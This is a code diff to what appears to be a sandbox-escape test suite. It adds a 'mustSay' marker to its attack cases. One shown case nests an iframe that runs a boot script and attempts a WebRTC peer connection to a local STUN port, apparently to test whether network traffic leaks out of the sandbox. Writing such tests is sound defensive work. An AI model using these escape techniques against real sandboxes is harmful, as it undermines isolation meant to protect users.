@@ -10,7 +10,8 @@ export interface Attack {
 	readonly name: string;
 	/** Program that attacks; `HIT` is an address of the attacker, `UDP` a port, `tell(x)` reports what was found. */
 	readonly code: string;
-	readonly kind?: 'app' | 'api';
+	/** A line that shows that the attack really took place. */
+	readonly mustSay?: string;
 }
 
 /** Runs before each attack: tries go on after an exception, and every finding goes to the console. */
@@ -204,8 +205,9 @@ export const peers: readonly Attack[] = [
 	},
 	{
 		name: 'WebRTC: from a nested frame that runs the boot script',
+		mustSay: 'nested frame booted',
 		code: `const inner = 'const P = self.RTCPeerConnection; try { const p = new P({ iceServers: [{ urls: "stun:127.0.0.1:${'${UDP}'}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}'.replace('\${UDP}', UDP);
-		const frame = document.createElement('iframe'); frame.srcdoc = '<body><script>' + ${JSON.stringify(BOOT_SCRIPT)} + '</' + 'script>'; addEventListener('message', (event) => { if (event.data?.type === 'sandbox-ready') { tell === tell; frame.contentWindow.postMessage({ runtime: inner }, '*', [new MessageChannel().port2]); } }); document.body.append(frame); await pause(800);`,
+		const frame = document.createElement('iframe'); frame.srcdoc = '<body><script>' + ${JSON.stringify(BOOT_SCRIPT)} + '</' + 'script>'; addEventListener('message', (event) => { if (event.data?.type === 'sandbox-ready') { console.log('nested frame booted'); frame.contentWindow.postMessage({ runtime: inner }, '*', [new MessageChannel().port2]); } }); document.body.append(frame); await pause(800);`,
 	},
 	{
 		name: 'WebRTC: from workers',
